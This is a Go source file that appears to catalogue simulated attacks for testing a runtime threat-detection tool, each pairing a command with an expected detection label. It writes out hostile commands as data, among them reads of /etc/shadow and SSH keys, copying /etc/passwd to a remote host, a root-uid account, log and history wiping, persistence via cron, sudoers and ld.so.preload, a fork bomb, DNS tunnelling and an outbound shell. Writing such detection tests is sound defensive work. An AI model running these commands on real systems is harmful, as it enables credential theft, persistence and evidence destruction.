package main

// seen: what is recorded by what was started, and what somebody should look at.
func seen() []attack {
	return []attack{
		tell("apt", "packages installed", open, "package-manager", "apt-get", "/usr/bin/apt-get", "install", "-y", "nmap").doing("mark @"),
		tell("gcc", "a program compiled", open, "compiler", "gcc", "/usr/bin/x86_64-linux-gnu-gcc-12", "-o", "x", "x.c").doing("mark @"),
		tell("nmap", "a scanner by its name", open, "attack-tool", "nmap", "/usr/bin/nmap", "-sS", "192.0.2.0/24").doing("mark @").inShort(),
		tell("tcpdump", "a network listened to", open, "network-tool", "tcpdump", "/usr/bin/tcpdump", "-i", "any").doing("mark @"),
		tell("scp", "files copied elsewhere", open, "file-transfer", "scp", "/usr/bin/scp", "/etc/passwd", "u@192.0.2.10:").doing("mark @"),
		tell("tmp-program", "a new program in /tmp", open, "temporary-program", "/tmp/plain", "attack", "drop", "@", "/tmp/plain"),
		tell("hidden-program", "a new program with a hidden name", open, "temporary-program", "/usr/bin/.sshd", "attack", "drop", "@", "/usr/bin/.sshd"),
		tell("find-keys", "keys searched for", open, "secret-search", "id_rsa", "find", "/root", "-name", "id_rsa"),
		tell("grep-keys", "passwords searched for", open, "secret-search", "PRIVATE", "grep", "-r", "BEGIN RSA PRIVATE KEY", "/root"),
		tell("truncate-log", "a log emptied", open, "log-removal", "auth.log", "truncate", "-s", "0", "/var/log/auth.log"),
		tell("history", "a shell's history removed", open, "history-removal", "_history", "rm", "-f", "/root/.bash_history"),
		tell("sudo", "sudo used", open, "user-switch", "sudo", "/usr/bin/sudo", "id").with("--user=10001").doing("mark @"),
		tell("chmod-s", "a set-user-ID bit set", open, "set-user-id-bit", "u+s", "sh", "-c", "cp /bin/busybox /home/app/x; /bin/chmod u+s /home/app/x"),
		tell("link-shadow", "a link to password hashes", open, "sensitive-link", "/etc/shadow", "ln", "-s", "/etc/shadow", "/home/app/s"),
		tell("kubectl", "a cluster commanded", open, "orchestration-tool", "kubectl", "/usr/bin/kubectl", "get", "secrets", "-A").doing("mark @"),
		tell("useradd", "an account added", open, "account-change", "toor", "/usr/bin/useradd", "-o", "-u", "0", "toor").doing("mark @"),
		tell("environ", "another process's environment read", open, "environment-read", "environ", "cat", "/proc/1/environ"),
		tell("gdb", "a debugger", open, "debugger", "gdb", "/usr/bin/gdb", "-p", "1").doing("mark @"),
		tell("crontab", "a command scheduled", open, "crontab-change", "crontab", "crontab", "-u", "root", "-r"),
		tell("mount-proc", "proc mounted", admin, "kernel-mount", "proc", "sh", "-c", "mkdir -p /tmp/p && /bin/mount -t proc proc /tmp/p"),
		tell("mount", "a file system mounted", admin, "mount-in-container", "mount", "attack", "call", "mount", "@"),
		tell("dmesg", "the kernel's log read", open, "kernel-log", "syslog", "attack", "call", "kernel-log", "@"),
		tell("module-refused", "a kernel module tried without the right", open, "kernel-change-tried", "init_module", "attack", "call", "init-module", "@"),
		tell("userfaultfd", "page faults of the kernel", open, "page-fault-handler", "userfaultfd", "attack", "call", "userfaultfd", "@").with("--user=10001"),
		tell("fork-bomb", "processes that multiply until the engine's limit", bounded, "fork-bomb", `"bomb":true`, "sh", "-c",
			"b() { [ $1 -gt 0 ] && { b $(($1-1)) & b $(($1-1)) & }; sleep 3; }; b 8").inShort(),
		tell("user-namespace", "rights by a user namespace", open, "user-namespace-rights", "", "attack", "namespace").with("--user=10001"),
	}
}

// files: what decides who may come back, and what is worth stealing.
func files() []attack {
	write := func(id, title, detection, path string) attack {
		return tell(id, title, open, detection, path, "attack", "append", path)
	}
	return []attack{
		tell("shadow", "password hashes read", open, "sensitive-file-read", "/etc/shadow", "cat", "/etc/shadow").inShort(),
		tell("private-key", "a private key read", open, "sensitive-file-read", "id_rsa", "cat", "/root/.ssh/id_rsa"),
		tell("token", "a cluster's token read", open, "service-account-token", "serviceaccount", "cat", "/run/secrets/kubernetes.io/serviceaccount/token"),
		tell("cluster-key", "the cluster's own key read", open, "kubernetes-keys", "ca.key", "cat", "/etc/kubernetes/pki/ca.key"),
		write("preload", "a library put before every program", "preload-change", "/etc/ld.so.preload"),
		write("cron", "a scheduled command added", "cron-change", "/etc/cron.d/x"),
		tell("cron-moved", "a scheduled command moved into place", open, "cron-change", "/etc/cron.d/moved", "sh", "-c", "echo > /tmp/moved; /bin/mv /tmp/moved /etc/cron.d/moved"),
		tell("cron-linked", "a scheduled command linked into place", open, "cron-change", "/etc/cron.d/linked", "sh", "-c", "echo > /tmp/linked; /bin/ln /tmp/linked /etc/cron.d/linked"),
		tell("sudoers-moved", "the rules of sudo replaced", open, "sudoers-change", "/etc/sudoers", "sh", "-c", "echo > /tmp/s; /bin/mv /tmp/s /etc/sudoers"),
		tell("rc-local", "a start script where there was none", open, "service-change", "/etc/rc.local", "attack", "append", "/etc/rc.local"),
		write("cron-table", "a scheduled command changed", "cron-change", "/etc/crontab"),
		write("authorized-keys", "a key that may log in added", "ssh-keys-change", "/root/.ssh/authorized_keys"),
		write("sudoers", "a rule of sudo added", "sudoers-change", "/etc/sudoers.d/x"),
		write("pam", "a rule of logins changed", "login-rules-change", "/etc/pam.d/common-auth"),
		write("profile", "a command of every shell added", "shell-profile-change", "/etc/profile.d/x.sh"),
		write("bashrc", "a command of root's shell added", "shell-profile-change", "/root/.bashrc"),
		write("unit", "a service added", "service-change", "/etc/systemd/system/x.service"),
		write("password", "password hashes changed", "password-file-change", "/etc/shadow"),
		write("wtmp", "the record of logins changed", "login-record-change", "/var/log/wtmp"),
		write("sources", "a source of packages added", "package-source-change", "/etc/apt/sources.list.d/x.list"),
		tell("host-setting", "a setting of the host changed", exposed, "host-setting-change", "randomize_va_space", "attack", "rewrite", "/proc/sys/kernel/randomize_va_space", "@").onTier2(unseen),
	}
}

// network: names, sockets and connections that are recorded.
func network() []attack {
	return []attack{
		tell("tunnel", "data packed into a name", open, "dns-tunnel", "4d5a9000", "/usr/bin/resolver").
			doing("ask " + peer(53) + " 4d5a90000300000004000000ffff0000b800000000000000400000.t.example.org @"),
		tell("callback", "a name that attackers use", open, "callback-name", "oast.pro", "/usr/bin/resolver").doing("ask " + peer(53) + " x1.oast.pro @"),
		tell("metadata-curl", "the cloud's credentials asked for by hand", open, "metadata-by-hand", "169.254.169.254", "/usr/bin/curl").doing("connect " + metadata),
		tell("metadata-open", "the cloud's credentials asked for", open, "metadata-service", "169.254.169.254", "/usr/bin/resolver").doing("connect " + metadata),
		tell("kubernetes", "the cluster's API asked by hand", open, "kubernetes-api", "10.96.0.1", "/usr/bin/curl").doing("connect " + kubernetes),
		tell("packet-open", "a packet socket", open, "packet-socket", "packet", "/usr/bin/resolver").doing("socket packet @"),
		tell("raw-open", "a raw socket", open, "raw-socket", "raw", "/usr/bin/resolver").doing("socket raw @"),
		tell("nc-listens", "a tool waits for connections", open, "tool-listens", "5552", "/usr/bin/socat").doing("listen :5552"),
		tell("bash-connects", "a shell connects", open, "shell-network", "4444", "/usr/bin/bash").doing("connect " + peer(portAllowed)),
		tell("tmp-connects", "a program in /tmp connects", open, "temporary-program-network", "/tmp/beacon", "sh", "-c",
			"cp /usr/bin/attack /tmp/beacon && VILLAIN_DO=\"connect "+peer(portAllowed)+"\" /tmp/beacon"),
		tell("scan", "ports of a machine scanned", open, "port-scan", "198.51.100.9", "attack", "scan", "198.51.100.9", "1", "1000").inShort(),
		tell("sweep", "a network searched for SSH", open, "network-sweep", "198.51.100.", "attack", "sweep", "198.51.100.1", "22", "254"),
		tell("flood", "connections to thousands of machines", open, "connection-flood", "198.18.", "attack", "sweep", "198.18.0.1", "8443", "3000"),
		tell("tunnel-flow", "data flowing out in names", open, "dns-tunnel-flow", "t.example.co.uk", "attack", "ask-many", peer(53), "mf2wg4tz#gq3dk5tp#h4.t.example.co.uk", "120"),
		tell("generated", "names made by a program", open, "generated-names", "xkqvbtr", "attack", "ask-many", peer(53), "xkqvbtr#zwpl.com", "120"),
		tell("ssh-443", "SSH to an unusual port", open, "ssh-odd-port", "9999", "/usr/bin/ssh").doing("connect " + peer(portRefused)),
	}
}
